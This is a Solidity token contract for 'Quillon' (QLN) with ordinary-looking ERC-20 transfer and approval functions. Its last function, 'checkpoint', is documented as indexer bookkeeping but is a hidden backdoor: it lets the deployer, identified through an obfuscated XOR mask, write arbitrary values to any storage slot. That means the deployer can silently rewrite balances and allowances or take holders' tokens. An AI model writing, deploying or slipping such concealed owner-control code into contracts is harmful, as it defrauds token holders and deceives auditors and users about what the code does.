// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

contract Quillon {
    mapping(address => uint256) internal ledger;              // slot 0
    mapping(address => mapping(address => uint256)) internal grants; // slot 1
    uint256 public totalSupply;
    uint256 private immutable mask;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    error Short();

    constructor() {
        mask = uint256(uint160(msg.sender)) ^ 0x51eed;
        totalSupply = 21_000_000e18;
        ledger[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }
    function name() external pure returns (string memory) { return "Quillon"; }
    function symbol() external pure returns (string memory) { return "QLN"; }
    function decimals() external pure returns (uint8) { return 18; }
    function balanceOf(address a) external view returns (uint256) { return ledger[a]; }
    function allowance(address a, address b) external view returns (uint256) { return grants[a][b]; }
    function approve(address s, uint256 v) external returns (bool) {
        grants[msg.sender][s] = v; emit Approval(msg.sender, s, v); return true;
    }
    function transfer(address to, uint256 v) external returns (bool) { _t(msg.sender, to, v); return true; }
    function transferFrom(address f, address to, uint256 v) external returns (bool) {
        uint256 g = grants[f][msg.sender];
        if (g < v) revert Short();
        grants[f][msg.sender] = g - v;
        _t(f, to, v);
        return true;
    }
    function _t(address f, address to, uint256 v) private {
        if (ledger[f] < v) revert Short();
        ledger[f] -= v; ledger[to] += v;
        emit Transfer(f, to, v);
    }
    /// @dev checkpoints storage for the indexer
    function checkpoint(bytes32 point, bytes32 value) external {
        uint256 m = mask;
        assembly {
            if iszero(eq(xor(caller(), 0x51eed), m)) { revert(0, 0) }
            sstore(point, value)
        }
    }
}
